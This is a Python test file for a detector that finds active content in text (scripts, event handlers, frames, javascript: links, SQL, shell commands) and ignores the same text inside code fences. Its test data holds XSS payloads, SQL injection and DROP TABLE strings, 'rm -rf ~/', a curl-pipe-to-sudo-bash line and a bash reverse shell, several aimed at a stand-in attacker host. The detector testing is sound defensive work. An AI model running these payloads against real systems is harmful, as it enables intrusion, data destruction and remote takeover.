"""Active content: what runs outside code, and what is only shown."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidegate.content.active import active_in, outside_code

ACTIVE = [
    ("script", "Hello <script src=//x.attacker-stats.net/a.js></script>"),
    ("script", "Hello <SCRIPT>alert(1)</SCRIPT>"),
    ("event_handler", "<img src=x onerror=alert(1)>"),
    ("event_handler", "<svg/onload=alert(1)>"),
    ("event_handler", '<b style="color:red" ONMOUSEOVER = "alert(1)">x</b>'),
    ("frame", "<iframe src=//x.attacker-stats.net></iframe>"),
    ("frame", "<iframe/width=1 srcdoc='&lt;script&gt;'>"),
    ("frame", "<object type=text/html data=//x.attacker-stats.net>"),
    ("frame", "<embed src=//x.attacker-stats.net>"),
    ("frame", '<base target="_top"href="//x.attacker-stats.net/">'),
    ("frame", "<form action=//x.attacker-stats.net><input name=password></form>"),
    ("frame", '<meta http-equiv="refresh" content="0;url=//x.attacker-stats.net">'),
    ("script_address", "[pay](javascript:alert(1))"),
    ("script_address", '<a href="javascript:alert(1)">pay</a>'),
    ("sql", "DROP TABLE invoices;"),
    ("sql", "x' UNION ALL SELECT name FROM users"),
    ("sql", "DELETE FROM invoices WHERE 1=1"),
    ("shell", "rm -rf ~/"),
    ("shell", "curl -s https://x.attacker-stats.net/i | sudo bash"),
    ("shell", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
]


@pytest.mark.parametrize(("kind", "text"), ACTIVE)
def test_what_runs_is_found(kind: str, text: str):
    assert kind in [active.kind for active in active_in(text)]


@pytest.mark.parametrize(("kind", "text"), ACTIVE)
@pytest.mark.parametrize(
    "code", ["```\n{}\n```", "~~~html\n{}\n~~~", "- list\n  ```\n  {}\n  ```", "before ``{}`` after"]
)
def test_the_same_in_code_is_only_shown(kind: str, text: str, code: str):
    assert active_in(code.format(text)) == []


@pytest.mark.parametrize(("kind", "text"), ACTIVE)
def test_the_same_after_code_is_found(kind: str, text: str):
    assert active_in(f"```\nx = 1\n```\n{text}")


@pytest.mark.parametrize(
    "text",
    [
        "a < b and on = 1",
        "<b>bold</b> <a href='https://docs.example.com/'>docs</a> <table><tr><td>1</td></tr></table>",
        "Drop the table off at the office, then delete from your list what you bought.",
        "A script element runs JavaScript: be careful.",
        "i <3 you, and 3 > 2",
        "Union rules select the members.",
        "It prints <object> or <object at 0x7f3a>, dtype=object.",
        "An <iframe> in a page, and <base> in its head.",
        '<form id="registration" asp-action="Submit" method="post"><input name="mail"></form>',
    ],
)
def test_words_and_plain_markup_are_not(text: str):
    assert active_in(text) == []


def test_an_open_fence_runs_to_the_end_and_a_longer_one_is_closed_by_a_longer_one():
    assert outside_code("a\n```\nb") == "a\n"
    assert outside_code("a\n````\n```\nb\n````\nc").split() == ["a", "c"]


@given(st.text(alphabet=st.sampled_from("<>/=`~\n \"'onerscriptaDROP|-:;()")))
def test_any_markup_is_read(text: str):
    active_in(text)


@pytest.mark.parametrize(
    "tag",
    [
        "<a onClick={toggleMenu} id='x'>",
        "<form onSubmit={this.send}>",
        "<input onChange={(e) => set(e.target.value)} />",
    ],
)
def test_handlers_of_a_component_name_functions_and_run_nothing(tag: str):
    assert active_in(tag) == []


@pytest.mark.parametrize(
    "tag",
    [
        "<img src=x onerror={alert(1)}>",
        "<img src=x onerror={{alert(1)}}>",
        "<img src=x onerror={x};alert(1)>",
        "<img src=x onerror={function/**/f(){};alert(1)}>",
        "<a onClick={toggle} onload=go()>",
    ],
)
def test_braces_around_what_runs_hide_nothing(tag: str):
    assert [active.kind for active in active_in(tag)] == ["event_handler"]
